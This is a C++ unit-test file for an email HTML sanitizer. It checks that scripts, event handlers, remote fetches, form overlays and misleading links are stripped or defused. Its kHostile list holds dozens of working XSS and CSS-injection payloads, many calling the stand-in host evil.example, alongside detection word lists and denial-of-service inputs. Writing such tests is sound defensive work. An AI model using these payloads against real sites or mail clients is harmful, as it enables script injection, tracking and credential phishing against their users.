#include "node/mime/html_sanitizer.hpp"

#include <array>
#include <catch2/catch_test_macros.hpp>
#include <chrono>
#include <string>
#include <vector>

#include "node/mime/html_sanitizer_css.hpp"

namespace pratique::mime {
namespace {

// The sanitised body, without our own head.
std::string clean(std::string_view html, RemoteImages remote = RemoteImages::Blocked, std::span<const InlineImage> pictures = {}) {
  const std::string document = sanitize_html({.html = html, .remote_images = remote, .inline_images = pictures}).document;
  const auto body = document.find("<body");
  const auto end = document.find("</body></html>");
  REQUIRE(body != std::string::npos);
  REQUIRE(end != std::string::npos);
  return document.substr(body, end - body);
}

std::string lowered(std::string text) {
  for (char& c : text) c = c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c;
  return text;
}

constexpr std::string_view kPng("\x89PNG\r\n\x1A\n....", 12);

// Nothing of these may leave anything that runs, fetches, submits, navigates or covers the page.
constexpr auto kHostile = std::to_array<std::string_view>({
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=x></script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror = 'alert(1)' >",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background='https://evil.example/b.png'>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"background-image:u\\72l(https://evil.example/x)\">x</div>",
    "<div style=\"background:/**/url(/**/'https://evil.example/x')\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"width:ex/**/pression(alert(1))\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x.xml#a)\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">sign in</div>",
    "<div style=\"POSITION : STICKY\">x</div>",
    "<div style=\"position:absolute;z-index:99999\">x</div>",
    "<div style=\"@import 'https://evil.example/x.css'\">x</div>",
    "<div style=\"color:red;}body{background:url(https://evil.example)\">x</div>",
    "<div style=\"background:image-set('https://evil.example/x' 1x)\">x</div>",
    "<div style=\"color:var(--x)\">x</div>",
    "<style>@import url(https://evil.example/x.css); body{display:none}</style>x",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password><button formaction=https://evil.example/>Sign in</button></form>",
    "<input type=image src=https://evil.example/x>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option><script>alert(1)</script></select>",
    "<isindex action=javascript:alert(1) type=image>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf><embed src=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x></applet>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<video src=https://evil.example/v poster=https://evil.example/p autoplay></video>",
    "<audio src=https://evil.example/a autoplay onplay=alert(1)></audio>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><image href=https://evil.example/x></svg>",
    "<svg><foreignObject><iframe src=https://evil.example/></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" \x01 javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://evil.example/1\">x</a>",
    "<a href=\"/v1/session\">x</a>",
    "<a href=\"?q=1\">x</a>",
    "<a href=x ping=https://evil.example/ target=_top download>x</a>",
    "<area href=javascript:alert(1)><map name=x><area href=https://evil.example/></map>",
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    "<img src=x srcset='https://evil.example/x 2x' lowsrc=https://evil.example/y dynsrc=z>",
    "<picture><source srcset=https://evil.example/x><img src=cid:none></picture>",
    "<table background=https://evil.example/x><td background=javascript:alert(1)>x</table>",
    "<bgsound src=https://evil.example/x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p id=canvas class=sign-in name=login contenteditable autofocus tabindex=1 accesskey=x>x</p>",
    "<div is=x-y slot=z part=w data-href='javascript:alert(1)'>x</div>",
    "<dialog open>Sign in</dialog>",
    "<keygen autofocus onfocus=alert(1)>",
    "<p style='content:\"x\";cursor:url(https://evil.example/c),auto'>x</p>",
    "<q cite=https://evil.example/>x</q>",
    "<font color=\"red;background:url(https://evil.example)\" face='x\" onload=\"y'>x</font>",
    "<img src=\"https://ok.example/a.png\" style=\"list-style:url(https://evil.example/x)\" width=\"1\" onload=alert(1)>",
});

// Words that appear in markup only when something got through; texts of the samples are chosen not to hold them.
constexpr auto kNever = std::to_array<std::string_view>({
    "<script",
    "<style",
    "<svg",
    "<math",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<button",
    "<link",
    "<meta",
    "<base",
    "<video",
    "<audio",
    "<source",
    "<template",
    "<textarea",
    "<select",
    "<dialog",
    "<area",
    "<frame",
    "<marquee",
    " href=",
    " onerror=\"",
    " onload=\"",
    " srcset=",
    " background=\"",
    " action=\"",
    " id=",
    " class=",
    " name=",
    "url(",
    "expression(",
    "position",
    "import",
    "binding",
    "behavior",
    " src=\"http",
    " src=\"data:image/svg",
    " src=\"data:text",
    "data-href=\"java",
    "data-href=\"data",
    "data-href=\"vb",
    "data-href=\"file",
    "data-href=\"blob",
    "data-href=\"/",
    "data-href=\"?",
    "var(",
    "image-set",
    " ping=",
    " target=",
    " autofocus",
    " tabindex=\"1\"",
    " title=\"<",
});

}  // namespace

TEST_CASE("Nothing in a hostile message runs, fetches, submits, navigates or covers the page", "[sanitizer]") {
  for (const std::string_view sample : kHostile) {
    const std::string out = lowered(clean(sample));
    INFO(sample << "\n-> " << out);
    for (const std::string_view word : kNever) {
      INFO(word);
      CHECK(out.find(word) == std::string::npos);
    }
    // What came out stays the same when it goes in again: no second parse brings anything to life.
    const std::string again = lowered(clean(clean(sample)));
    for (const std::string_view word : {"<script", " href=", " onerror=\"", " onload=\""}) CHECK(again.find(word) == std::string::npos);
  }
}

TEST_CASE("Ordinary mail keeps its words, structure and harmless look", "[sanitizer]") {
  CHECK(clean("<h1>Hi</h1><p align=center style='COLOR: Red; Margin:0 auto; font-family: \"Open Sans\", serif'>A &lt;b&gt; &amp; "
              "<b>c</b><br>d</p>") ==
        "<body><h1>Hi</h1><p align=\"center\" style=\"color: red; margin: 0 auto; font-family: &quot;Open Sans&quot;, serif\">A &lt;b&gt; "
        "&amp; "
        "<b>c</b><br>d</p>");
  CHECK(clean("<table width=600 cellpadding=0><tr><td bgcolor=#FFF colspan=2>x</td></tr></table>") ==
        "<body><table width=\"600\" cellpadding=\"0\"><tbody><tr><td bgcolor=\"#FFF\" colspan=\"2\">x</td></tr></tbody></table>");
  CHECK(clean("<body bgcolor=#eee dir=rtl style='color:navy'>x") == "<body style=\"background: #eee; color: navy\" dir=\"rtl\">x");
  CHECK(clean("<form><label>Name</label> <b>x</b></form>") == "<body>Name <b>x</b>");
  CHECK(clean("<unknown><i>kept</i></unknown>") == "<body><i>kept</i>");
}

TEST_CASE("A link says where it goes and opens nothing", "[sanitizer]") {
  CHECK(clean("<a href='HTTPS://Go.example/a?b=1&amp;c=\"2\"' title='https://bank.example'>go</a>") ==
        "<body><a data-href=\"https://Go.example/a?b=1&amp;c=&quot;2&quot;\" title=\"https://Go.example/a?b=1&amp;c=&quot;2&quot;\" "
        "role=\"link\" "
        "tabindex=\"0\">go</a>");
  CHECK(clean("<a href='mailto:ann@example.org'>write</a>").find("data-href=\"mailto:ann@example.org\"") != std::string::npos);
  CHECK(clean("<a href='//evil.example/x'>x</a>").find("data-href=\"https://evil.example/x\"") != std::string::npos);
  // A right-to-left override would let the address read as another one.
  CHECK(clean("<a href='https://evil.example/\u202Egpj.exe'>x</a>").find("\u202E") == std::string::npos);
}

TEST_CASE("Links whose text names another site than they open are counted", "[sanitizer]") {
  const auto odd = [](std::string_view html) { return sanitize_html({.html = html}).odd_links; };
  CHECK(odd("<a href='https://evil.example/'>https://www.bank.com/login</a>") == 1);
  CHECK(odd("<a href='https://evil.example/'>www.bank.com</a>") == 1);
  CHECK(odd("<a href='https://evil.example/'> <b>bank</b>.com </a>") == 1);
  CHECK(odd("<a href='http://www.bank.com@evil.example/'>www.bank.com</a>") == 1);
  CHECK(odd("<a href='http://evil.example\\@www.bank.com/'>www.bank.com</a>") == 1);
  CHECK(odd("<a href='mailto:x@evil.example'>help@bank.com</a>") == 1);
  CHECK(odd("<a href='https://click.bank.com/t/1'>www.bank.com</a>") == 0);
  CHECK(odd("<a href='https://evil.example/'>Click here</a>") == 0);
  CHECK(odd("<a href='https://nodejs.org/'>Node.js</a>") == 0);
  CHECK(odd("<a href='https://files.example/'>report.pdf</a>") == 0);
}

TEST_CASE("Remote pictures are counted and not loaded, unless the reader asked", "[sanitizer]") {
  constexpr std::string_view kHtml =
      "<img src='https://a.example/1.png' alt='one'><img src='//b.example/2.png'><img src='ftp://c.example/3'>";
  const SanitizedHtml blocked = sanitize_html({.html = kHtml});
  CHECK(blocked.remote_images == 2);
  CHECK(blocked.document.find(" src=") == std::string::npos);
  CHECK(clean(kHtml).find("<img alt=\"one\" data-remote-src=\"https://a.example/1.png\">") != std::string::npos);
  CHECK(clean(kHtml, RemoteImages::Allowed) ==
        "<body><img alt=\"one\" src=\"https://a.example/1.png\"><img src=\"https://b.example/2.png\"><img>");
}

TEST_CASE("Pictures that came with the message are shown when they are pictures", "[sanitizer]") {
  const std::vector<InlineImage> pictures{{"logo@x", std::string(kPng)}, {"fake@x", "<svg onload=alert(1)>"}};
  CHECK(clean("<img src='cid:logo@x'>", RemoteImages::Blocked, pictures) == "<body><img src=\"data:image/png;base64,iVBORw0KGgouLi4u\">");
  CHECK(clean("<img src='CID:logo%40x'>", RemoteImages::Blocked, pictures).find("data:image/png") != std::string::npos);
  CHECK(clean("<img src='cid:fake@x'>", RemoteImages::Blocked, pictures) == "<body><img>");
  CHECK(clean("<img src='cid:other'>", RemoteImages::Blocked, pictures) == "<body><img>");
  CHECK(clean("<img src='data:image/png;base64,iVBORw0KGgouLi4u'>") == "<body><img src=\"data:image/png;base64,iVBORw0KGgouLi4u\">");
  CHECK(clean("<img src='data:image/png;base64,PHN2Zz4='>") == "<body><img>");  // says PNG, is not
  const std::vector<InlineImage> large{{"a", std::string(kPng) + std::string(6u << 20, 'x')}};
  const SanitizedHtml twice = sanitize_html({.html = "<img src=cid:a><img src=cid:a>", .inline_images = large});
  CHECK(twice.truncated);
  CHECK(twice.document.size() < (10u << 20));
}

TEST_CASE("Size and nesting without end take neither time nor memory without end", "[sanitizer]") {
  const auto repeated = [](std::string_view text, int times) {
    std::string out;
    for (int i = 0; i < times; ++i) out += text;
    return out;
  };
  std::string attributes = "<p";
  for (int i = 0; i < 50'000; ++i) attributes += " a" + std::to_string(i);
  std::string formats;
  for (int i = 0; i < 50'000; ++i) formats += "<b x=" + std::to_string(i) + "></z>";
  for (const std::string& hostile :
       {repeated("<div>", 300'000), repeated("<b><p>", 100'000), repeated("<table><tr><td>", 50'000), attributes, formats,
        repeated("<!--", 500'000), std::string(12u << 20, '<'), std::string("\0<b>\0", 5), std::string("<")}) {
    const auto started = std::chrono::steady_clock::now();
    const SanitizedHtml out = sanitize_html({.html = hostile});
    CHECK(out.document.ends_with("</body></html>"));
    CHECK(out.document.size() <= kHtmlBytesWritten + 4096);
    CHECK(std::chrono::steady_clock::now() - started < std::chrono::seconds(60));  // quadratic work would take far longer
  }
  CHECK(sanitize_html({.html = {}}).document.ends_with("<body></body></html>"));
}

TEST_CASE("A declaration is kept whole or dropped whole", "[sanitizer]") {
  CHECK(filter_declarations("color:red;;  ;margin : 0 ") == "color: red; margin: 0");
  CHECK(filter_declarations("color:rgb(1, 2, 3); color:rgba(1,2,3,.5) !important") ==
        "color: rgb(1, 2, 3); color: rgba(1,2,3,.5) !important");
  for (const char* dropped : {"color:red\\", "color:calc(1px)", "color:\"red", "color:(red", "color:red)", "color:a:b", "colour:red",
                              "color", "color:", "top:0"}) {
    INFO(dropped);
    CHECK(filter_declarations(dropped).empty());
  }
  CHECK(filter_declarations("font-family:'a;b'; color:red") == "font-family: 'a;b'; color: red");
  CHECK(filter_declarations("color:red /* unclosed ; margin:0") == "color: red");
  CHECK(filter_declarations(std::string(20'000, 'x')).empty());
}

}  // namespace pratique::mime
